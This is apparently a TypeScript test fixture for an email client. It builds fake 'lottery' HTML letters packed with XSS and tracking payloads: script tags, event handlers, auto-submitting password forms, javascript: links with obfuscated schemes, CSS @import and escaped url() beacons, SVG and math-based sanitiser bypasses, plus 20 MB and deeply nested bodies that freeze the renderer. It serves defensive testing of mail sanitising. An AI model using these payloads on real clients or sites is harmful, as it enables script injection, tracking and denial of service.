import type { DeliveredMessage } from '../servers/dovecot/maildir.ts';
import { letter, tracker } from './letters.ts';

/** The words that each of them shows once it is open. */
export const witness = 'You have won.';
/** A page that a person may follow a link to; the name is nobody's (RFC 2606). */
export const landing = 'https://shop.example.com/offer';

/** What each tries, by its subject; `taken` in the window's title, or a request of the tracker's, says that it did. */
const attempts: Readonly<Record<string, string>> = {
  Scripts: `<script>parent.document.title = "taken"; fetch("${tracker}?script")</script>
    <script src="${tracker}?source"></script><img src="x" onerror="parent.document.title = 'taken'">
    <body onload="parent.document.title = 'taken'"><details open ontoggle="top.location = '${tracker}?toggle'">`,
  Forms: `<form action="${tracker}?form" id="f"><input name="password" autofocus
    onfocus="this.form.submit()"><button id="go" formaction="${tracker}?button">Win</button></form>
    <input type="image" form="f" src="${tracker}?input"><isindex action="${tracker}?isindex">`,
  'Remote pictures': `<img src="${tracker}?img"><img srcset="${tracker}?srcset 1x">
    <picture><source srcset="${tracker}?source"><img></picture><img src="//pictures.example.com/opened.png">
    <table background="${tracker}?background"><tr><td background="${tracker}?cell">1</td></tr></table>
    <video poster="${tracker}?poster" src="${tracker}?video"></video><audio src="${tracker}?audio" autoplay></audio>
    <object data="${tracker}?object"></object><embed src="${tracker}?embed"><iframe src="${tracker}?frame"></iframe>`,
  Styles: `<style>@import url("${tracker}?import"); @\\69mport "${tracker}?escaped";
    @font-face { font-family: f; src: url("${tracker}?font") } p { font-family: f; background: url(${tracker}?css) }
    p::before { content: url("${tracker}?content") } li { list-style: \\75rl(${tracker}?hidden) }
    p { cursor: url(${tracker}?cursor), auto; border-image: image-set("${tracker}?set" 1x) 1 }</style>
    <link rel="stylesheet" href="${tracker}?link"><link rel="prefetch" href="${tracker}?prefetch">
    <p style="background-image: url('${tracker}?style')">1</p><ul><li>1</li></ul>`,
  'Meta refresh': `<meta http-equiv="refresh" content="0;url=${tracker}?meta"><base href="${tracker}">
    <META HTTP-EQUIV=Refresh CONTENT="0; ${tracker}?second"><a href="relative" ping="${tracker}?ping">1</a>`,
  SVG: `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.title = 'taken'">
    <script>parent.document.title = "taken"</script><image href="${tracker}?image"/><use href="${tracker}?use#a"/>
    <foreignObject><iframe src="${tracker}?frame"></iframe></foreignObject></svg>
    <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${tracker}?data'/></svg>">
    <math><mtext><table><mglyph><style><img src=x onerror="parent.document.title='taken'"></style></table></math>`,
  'JavaScript links': `<a href="javascript:parent.document.title='taken'">One</a>
    <a href=" java&#10;script:parent.document.title='taken'" target="_top">Two</a>
    <a href="data:text/html,<script>opener.document.title='taken'</script>" target="_blank">Three</a>
    <a href="vbscript:x" onclick="parent.document.title='taken'">Four</a>
    <a href="${landing}">The shop</a>`,
};

/** Bytes of HTML. */
const huge = 20 * 1024 * 1024;
const levels = 100_000;

function lines(): string {
  const line =
    '<p>One of <b>very</b> many <i>lines</i> that <span style="color: red">nobody</span> will read.</p>\n';
  return line.repeat(Math.ceil(huge / line.length));
}

const freezing: Readonly<Record<string, string>> = {
  'Twenty megabytes': lines(),
  'One word': 'win'.repeat(huge / 3),
  'Deep nesting': `${'<div>'.repeat(levels)}1${'</div>'.repeat(levels)}`,
};

/** What runs or loads something where it is not stopped; each shows {@link witness}. */
export const intrusive = Object.entries(attempts).map(hostileLetter);
/** What takes a window minutes to show where it is not bounded, and something behind it to go to. */
export const heavy = [...Object.entries(freezing), ['Harmless', ''] as const].map(hostileLetter);

interface HostileLetter extends DeliveredMessage {
  readonly subject: string;
}

/** The first of a list is its newest. */
function hostileLetter([subject, html]: readonly [string, string], index: number): HostileLetter {
  const day = 86_400_000;
  const whole = letter({
    from: 'Lottery Office <lottery@example.com>',
    subject,
    date: new Date(Date.UTC(2025, 5, 30) - index * day).toISOString(),
    type: 'text/html; charset=utf-8',
    body: `<p>${witness}</p>\n${html}`,
  });
  return { ...whole, subject };
}
